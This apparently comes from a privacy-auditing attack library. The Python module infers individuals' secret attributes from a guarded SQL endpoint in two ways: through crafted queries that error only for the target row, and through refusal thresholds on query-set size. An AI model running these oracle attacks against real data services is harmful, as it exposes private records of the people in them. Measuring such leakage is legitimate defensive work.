"""Oracles: a refusal or an error that depends on one person's row is an answer without noise and without price.

The error oracle writes a cast that fails for her alone. The refusal oracle fills a set up to one below the size that an
endpoint still answers: whether it answers then is her secret (the peers' gateways fell to the first of these).
"""

from __future__ import annotations

from sfumato.attacks.base import Claim, Endpoint, Found, Knowledge, Person, each
from sfumato.errors import BudgetError, QueryError, SfumatoError
from sfumato.words import identifier

_MOST = 200
_FAILING = (
    "CAST(CASE WHEN {fact} THEN 'x' ELSE '1' END AS INTEGER) >= 0",
    "1 / (CASE WHEN {fact} THEN 0 ELSE 1 END) >= 0",
    "SQRT(CASE WHEN {fact} THEN -1 ELSE 1 END) >= 0",
    "LN(CASE WHEN {fact} THEN 0 ELSE 1 END) >= 0",
    "9223372036854775807 + (CASE WHEN {fact} THEN 1 ELSE 0 END) > 0",
)


def run(endpoint: Endpoint, knowledge: Knowledge) -> Found:
    """Errors first, then refusals."""
    endpoint.share(10 * _MOST)
    try:
        for form in _FAILING:
            if _outcome(endpoint, knowledge, form, "1 = 1") != _outcome(endpoint, knowledge, form, "1 = 0"):
                return _read(endpoint, knowledge, form)
        return _refusals(endpoint, knowledge)
    except BudgetError:
        return Found(reason="the budget was spent before an oracle was found")


def _outcome(endpoint: Endpoint, knowledge: Knowledge, form: str, fact: str) -> str:
    """What kind of reply came: an answer, or which error. A refusal for the text is the same for both facts."""
    try:
        endpoint.ask(knowledge.count(form.format(fact=fact)))
    except BudgetError:
        raise
    except SfumatoError as error:
        return error.sqlstate
    return "answered"


def _read(endpoint: Endpoint, knowledge: Knowledge, form: str) -> Found:
    claims = []
    for i, one in each(knowledge.people, _MOST):
        fact = f"{one.where} AND {knowledge.secret}"
        reply = _outcome(endpoint, knowledge, form, fact)
        claims.append(Claim(i, reply != "answered", certain=True))
    worst = tuple(asked.sql for asked in endpoint.log[-3:])
    return Found(tuple(claims), reason="an error tells the secret", worst=worst)


def _refusals(endpoint: Endpoint, knowledge: Knowledge) -> Found:
    """Find the least size of a set of named people that is answered, then ask for one less and perhaps her."""
    size = _least_answered(endpoint, knowledge)
    if size is None:
        return Found(reason="no error and no refusal depends on the data")
    claims = []
    for i, one in each(knowledge.people, _MOST):
        others = [p for j, p in enumerate(knowledge.people) if j != i][: size - 1]
        fact = f"{_any(knowledge, others)} OR ({one.where} AND {knowledge.secret})"
        try:
            endpoint.ask(knowledge.count(fact))
            has = True
        except BudgetError:
            break
        except QueryError:
            has = False
        claims.append(Claim(i, has, certain=True))
    worst = tuple(asked.sql for asked in endpoint.log[-3:])
    return Found(tuple(claims), reason="a refusal tells the secret", worst=worst)


def _least_answered(endpoint: Endpoint, knowledge: Knowledge) -> int | None:
    for size in range(1, min(60, len(knowledge.people) - 1)):
        try:
            endpoint.ask(knowledge.count(_any(knowledge, list(knowledge.people[:size]))))
        except BudgetError:
            raise
        except QueryError:
            continue
        return size if size > 1 else None
    return None


def _any(knowledge: Knowledge, people: list[Person]) -> str:
    if knowledge.key is not None:
        key = knowledge.key
        return f"{identifier(key)} IN ({', '.join(p.where.partition(' = ')[2] for p in people)})"
    return " OR ".join(f"({p.where})" for p in people) or "1 = 0"
